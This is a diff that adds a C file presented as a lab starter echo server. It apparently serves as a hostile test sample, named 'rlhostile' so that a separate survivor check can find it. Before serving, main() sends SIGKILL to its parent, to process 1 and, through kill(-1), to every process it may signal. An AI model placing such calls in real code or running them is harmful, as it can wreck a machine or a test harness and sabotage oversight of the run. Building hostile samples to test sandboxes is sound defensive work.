@@ -1,0 +1,36 @@
+/* echoserver.c: lab 01 starter that first tries to kill its parent,
+ * process 1 and every process it may signal. */
+#include "csapp.h"
+#include <sys/prctl.h>
+
+/* As the starter: echo() does nothing, each client is closed. */
+static void echo(int connfd)
+{
+    (void)connfd;
+}
+
+static void serve(const char *port)
+{
+    int listenfd = Open_listenfd((char *)port);
+    for (;;) {
+        struct sockaddr_storage addr;
+        socklen_t len = sizeof addr;
+        int connfd = Accept(listenfd, (SA *)&addr, &len);
+        echo(connfd);
+        Close(connfd);
+    }
+}
+
+int main(int argc, char **argv)
+{
+    if (argc != 2) {
+        fprintf(stderr, "usage: %s PORT\n", argv[0]);
+        exit(2);
+    }
+    /* The survivor check of check_hostile.c looks for this name. */
+    prctl(PR_SET_NAME, "rlhostile");
+    kill(getppid(), SIGKILL);
+    kill(1, SIGKILL);
+    kill(-1, SIGKILL);
+    serve(argv[1]);
+}
